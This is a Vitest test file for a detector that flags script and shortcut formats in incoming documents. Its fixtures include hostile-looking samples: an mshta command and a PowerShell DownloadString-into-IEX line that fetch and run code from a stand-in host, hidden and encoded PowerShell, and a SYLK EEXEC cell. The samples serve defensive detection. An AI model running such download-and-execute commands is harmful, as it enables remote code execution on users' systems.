// SPDX-FileCopyrightText: 2026 Document Gate contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import { describe, expect, test } from 'vitest'
import { scriptLanguage } from '../../../../src/formats/inert/script-signs.ts'

describe('scripts', () => {
	test.each<[string, string]>([
		['shell', '#!/bin/sh\necho hello\n'],
		['shell', '#! /usr/bin/env python3\n'],
		['encoded script', '#@~^AAAAAA==abc'],
		['internet shortcut', '[InternetShortcut]\r\nURL=file://server/share/x.exe\r\n'],
		['desktop entry', '[Desktop Entry]\nExec=x\n'],
		['registry', 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\x]\n'],
		['symbolic link', 'ID;PWXL;N;E\nC;X1;Y1;K1;EEXEC("calc")\n'],
		['batch', '@echo off\r\nstart x\r\n'],
		['batch', '@powershell -enc AAAA\r\n'],
		['command', 'mshta http://a.example/x.hta'],
		['command', 'powershell -w hidden -c x'],
		['shell link', '[Shell]\r\nCommand=2\r\nIconFile=\\\\server\\share\\x.ico\r\n'],
		['setup information', '; comment\r\n[Version]\r\nSignature="$CHICAGO$"\r\n'],
		['web query', 'WEB\n1\nhttp://a.example/x.dat\n'],
		['remote desktop', 'screen mode id:i:2\nfull address:s:a.example\n'],
		['vbscript', 'On Error Resume Next\nSet shell = CreateObject("WScript.Shell")\nshell.Run "x"\n'],
		['vbscript', "' comment\nDim a\na = Chr(65) & ChrW(66)\nExecute a\n"],
		['jscript', 'var a = new ActiveXObject("WScript.Shell");\na.Run("x");\n'],
		['jscript', '(function () { return eval("x") })()'],
		['powershell', '$client = New-Object Net.WebClient\n$client.DownloadString("http://a.example") | IEX\n'],
		['python', 'import os\n\ndef run(a):\n    os.system(a)\n'],
	])('%s', (language, text) => {
		expect(scriptLanguage(text)).toBe(language)
	})
})

describe('texts', () => {
	test.each([
		'Sehr geehrte Damen und Herren,\nim Anhang finden Sie den Antrag.\n',
		'If you call CreateObject("x") from VBA, a macro starts.',
		'Set the table, then start.',
		'import the goods, then export them',
		'# Heading\n\nThe function `eval()` is dangerous.\n',
		'{"a": "function () {}", "b": "eval(1)"}',
		'[section]\nkey = value\n',
		'name;value\n1;2\n',
		'echo of the mountains',
		'WEB of lies',
		'',
	])('%s', (text) => {
		expect(scriptLanguage(text)).toBeUndefined()
	})
})

test('long lines and many empty ones are no work', () => {
	const begin = performance.now()
	for (const piece of ['class a ', '\n', ' ', 'def f(', 'var a = ', 'from a.', 'function ', '$a = ', '|!']) scriptLanguage(`import x\n${piece.repeat(100_000)}`)
	expect(performance.now() - begin).toBeLessThan(2_000)
})
